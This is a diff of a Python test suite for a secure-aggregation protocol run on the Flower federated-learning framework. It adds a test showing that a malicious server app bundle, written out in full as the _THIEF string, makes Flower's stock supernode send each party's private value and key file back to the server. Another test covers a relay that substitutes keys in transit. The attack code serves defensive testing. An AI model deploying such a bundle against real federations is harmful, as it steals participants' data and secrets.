@@ -1,19 +1,24 @@
-"""GOPA on a real Flower deployment: flower-superlink + K flower-supernode processes on
-loopback, started and stopped by the test (``renyi.federated.gopa_flower``).
+"""GOPA on a real Flower deployment: flower-superlink + one long-lived node process per party
+on loopback (renyi.federated.flower_node), started and stopped by each test.
 
-Each run starts about K + 2 Python processes per protocol round (Flower spawns one
-ClientApp process per message), so these are the slowest tests of the federated suite:
-one runs by default (K = 5, a supernode killed mid-protocol), the others are ``slow``.
+A K = 5 deployment costs about 16 s of CPU (SuperLink, its SuperExec and ServerApp,
+``flwr run`` and five node processes: one per party for its whole life, where Flower's
+``flower-supernode`` started a ClientApp process per message, ~38 processes). Two run by
+default (a party killed mid-protocol; a ServerApp shipping its own ClientApp); the others
+are ``slow``.
 """
 
 from __future__ import annotations
 
+import json
 import os
 import signal
 import subprocess
 import sys
 import textwrap
+import time
 import warnings
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -25,8 +30,9 @@ pytest.importorskip("flwr")
 from renyi import noise
 from renyi.errors import InsecureRandomnessWarning
 from renyi.federated.channels import ChaCha20Source
+from renyi.federated.flower_deploy import LocalDeployment
 from renyi.federated.gopa import GopaProtocol
-from renyi.federated.gopa_flower import run_local_deployment, session_graph
+from renyi.federated.gopa_flower import deployment_files, run_local_deployment, session_graph
 
 K = 5
 VALUES = [0.11, 0.42, 0.73, 0.25, 0.98]
@@ -45,25 +51,37 @@ def _expected(parties: list[int]) -> float:
 G = noise.lattice_step(SIGMA_ETA)
 
 
-def _kill(proc: subprocess.Popen[bytes]) -> None:
-    os.killpg(proc.pid, signal.SIGKILL)
+def _alive(pgids: set[int]) -> list[int]:
+    """Processes still in any of these process groups (Linux /proc)."""
+    out = []
+    for d in Path("/proc").iterdir():
+        if d.name.isdigit():
+            try:
+                fields = (d / "stat").read_text().rsplit(")", 1)[1].split()
+            except OSError:
+                continue
+            if int(fields[2]) in pgids and fields[0] != "Z":
+                out.append(int(d.name))
+    return out
 
 
-def test_deployment_survives_a_killed_supernode_exactly() -> None:
-    """K = 5 supernodes; one is killed (SIGKILL, whole process group) right after pairing.
+def test_deployment_survives_a_killed_party_exactly() -> None:
+    """K = 5 nodes; one is killed (SIGKILL, whole process group) right after pairing.
 
-    Its neighbours reveal their terms within the budget; the release equals the fixed-point
-    mean of the four survivors' values plus their own noise bit for bit, and equals the
-    in-process reference simulation with the same dropout.
+    Its neighbours reveal their terms within the budget; the release is within g/2 of the
+    mean of the four survivors' values plus their own noise, and within g of the in-process
+    reference simulation with the same dropout. No process is left behind.
     """
     sid = bytes(range(16))
     edges = session_graph(sid, K, PEERS)
     victim = 3
     killed: list[int] = []
+    groups: set[int] = set()
 
     def on_status(line: str, nodes: list[subprocess.Popen[bytes]]) -> None:
-        if line.startswith("paired") and not killed:
-            _kill(nodes[victim])
+        groups.update(p.pid for p in nodes)
+        if line.startswith("pair ") and not killed:
+            os.killpg(nodes[victim].pid, signal.SIGKILL)
             killed.append(victim)
 
     res = run_local_deployment(
@@ -74,7 +92,7 @@ def test_deployment_survives_a_killed_supernode_exactly() -> None:
         reveal_budget=2,
         noise_keys=KEYS,
         session=sid,
-        grace=20.0,
+        grace=3.0,
         notify=False,
         on_status=on_status,
     )
@@ -85,6 +103,7 @@ def test_deployment_survives_a_killed_supernode_exactly() -> None:
     assert abs(res.estimate - _expected(survivors)) <= G / 2
     assert res.raw["revealed_edges"]  # the victim's edges were recovered by reveals
     assert res.bytes_per_party > 0
+    assert len(groups) == K and not _alive(groups)
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", InsecureRandomnessWarning)
         ref = GopaProtocol(
@@ -98,6 +117,107 @@ def test_deployment_survives_a_killed_supernode_exactly() -> None:
         )
         ref.send_seeds()
         assert abs(ref.aggregate([victim]).estimate - res.estimate) <= G
+
+
+_THIEF = textwrap.dedent(
+    '''
+    """A malicious app bundle: its ClientApp sends the party's value and key to the server."""
+    import json
+    import time
+    from pathlib import Path
+
+    from flwr.app import ConfigRecord, Message, MessageType, RecordDict
+    from flwr.clientapp import ClientApp
+    from flwr.serverapp import ServerApp
+
+    MARKER = {marker!r}
+
+    client = ClientApp()
+
+
+    @client.query()
+    def steal(msg, context):
+        Path(MARKER).write_text("the server's code ran on a party")
+        cfg = context.node_config
+        loot = {{"value": float(cfg["value"]), "key": Path(cfg["key-file"]).read_bytes()}}
+        return Message(RecordDict({{"loot": ConfigRecord(loot)}}), reply_to=msg)
+
+
+    server = ServerApp()
+
+
+    @server.main()
+    def main(grid, context):
+        cfg = context.run_config
+        end = time.monotonic() + 60
+        while len(list(grid.get_node_ids())) < {k} and time.monotonic() < end:
+            time.sleep(0.05)
+        head = {{"protocol": "renyi-gopa", "session": b"s" * 16, "phase": "join", "opening": True}}
+        msgs = [
+            Message(
+                RecordDict({{"relay": ConfigRecord(head), "payload": ConfigRecord({{}})}}),
+                dst_node_id=n,
+                message_type=MessageType.QUERY,
+            )
+            for n in grid.get_node_ids()
+        ]
+        ids, out = set(grid.push_messages(msgs)), []
+        while ids and time.monotonic() < end:
+            for r in grid.pull_messages(list(ids)):
+                ids.discard(r.metadata.reply_to_message_id)
+                rec = {{"error": r.has_error()}}
+                if not r.has_error():
+                    c = r.content
+                    if "loot" in c:
+                        rec["loot"] = {{"value": c["loot"]["value"], "key": c["loot"]["key"].hex()}}
+                    if "payload" in c:
+                        rec["payload"] = dict(c["payload"])
+                out.append(rec)
+            time.sleep(0.05)
+        Path(cfg["result-file"]).write_text(json.dumps(out))
+    '''
+)
+
+
+def _steal(
+    tmp_path: Path, node: str
+) -> tuple[list[dict[str, object]], list[dict[str, object]], Path]:
+    marker = tmp_path / "marker"
+    dep = LocalDeployment([{}] * K, "renyi.federated.gopa_flower:client_app", node=node)  # type: ignore[arg-type]
+    _, _, dep.node_configs = deployment_files(dep.workdir, VALUES)
+    with dep:
+        out = dep.run(
+            "thief:server",
+            {},
+            app_files={"thief.py": _THIEF.format(marker=str(marker), k=K)},
+            client_component="thief:client",
+            timeout=240,
+        )
+        configs = list(dep.node_configs)
+    return out, configs, marker  # type: ignore[return-value]
+
+
+def test_a_party_node_never_runs_the_servers_code(tmp_path: Path) -> None:
+    """A ServerApp whose app bundle names its own ClientApp (one that sends the node's value
+    and key file to the server): a renyi node runs only its pinned party app, which refuses
+    the malformed join; the server gets no value, no key, and the bundle's code never runs."""
+    out, _, marker = _steal(tmp_path, "renyi")
+    assert len(out) == K
+    for rec in out:
+        assert "loot" not in rec
+        assert "abort" in rec["payload"]  # type: ignore[operator]
+    assert not marker.exists()
+
+
+@pytest.mark.slow
+def test_flowers_stock_supernode_runs_the_servers_code(tmp_path: Path) -> None:
+    """The attack above is real: Flower's ``flower-supernode`` (no ``--trusted-entities``)
+    installs and runs the ClientApp the server's bundle names, which returns every value."""
+    out, configs, marker = _steal(tmp_path, "flower-supernode")
+    loot = sorted(float(rec["loot"]["value"]) for rec in out if "loot" in rec)  # type: ignore[index]
+    assert loot == sorted(VALUES)
+    assert marker.exists()
+    assert configs
 
 
 _RELAY = textwrap.dedent(
@@ -122,12 +242,12 @@ _RELAY = textwrap.dedent(
         def push_messages(self, messages):
             messages = list(messages)
             for m in messages:
-                cfg = m.content["gopa"]
-                if cfg["phase"] == "pair":
+                head, cfg = m.content["relay"], m.content["payload"]
+                if head["phase"] == "pair":
                     names = list(cfg["names"])
                     i = names.index("party-001")
                     mallory = IdentityKey("party-001")
-                    fake = EphemeralSession(mallory, Roster.of([mallory]), bytes(cfg["session"]))
+                    fake = EphemeralSession(mallory, Roster.of([mallory]), bytes(head["session"]))
                     adverts = list(cfg["adverts"])
                     adverts[i] = fake.advertisement().to_bytes()
                     cfg["adverts"] = adverts
@@ -162,7 +282,7 @@ def test_deployment_relay_key_substitution_aborts_before_masking() -> None:
     )
     assert res.status == "aborted"
     assert "not signed by its pinned identity key" in res.reason
-    assert "masked" not in statuses and "paired" not in statuses  # no value left a party
+    assert "mask" not in statuses  # no value left a party
 
 
 @pytest.mark.slow
@@ -183,9 +303,19 @@ def test_deployment_matches_reference_and_cli_runs() -> None:
         text=True,
         timeout=600,
     )
-    import json
-
     d = json.loads(out.stdout)
     assert d["status"] == "released" and d["parties"] == 5
     assert abs(d["estimate"] - d["true_mean"]) < 8 * d["output_std"]
     assert d["central_std"] < d["output_std"]
+
+
+@pytest.mark.slow
+def test_k10_deployment_releases_and_reports_its_cost() -> None:
+    """K = 10 on a real deployment: released, with every party included (the wall time is
+    printed for the record, never asserted; benchmarks/gopa.py measures it)."""
+    values = np.linspace(0.05, 0.95, 10).tolist()
+    started = time.monotonic()
+    res = run_local_deployment(values, sigma_eta=0.3, sigma_delta=25.0, peers=3, notify=False)
+    assert res.status == "released", res.reason
+    assert len(res.included) == 10
+    print(f"K=10 deployment: {time.monotonic() - started:.1f} s, load {os.getloadavg()[0]:.1f}")
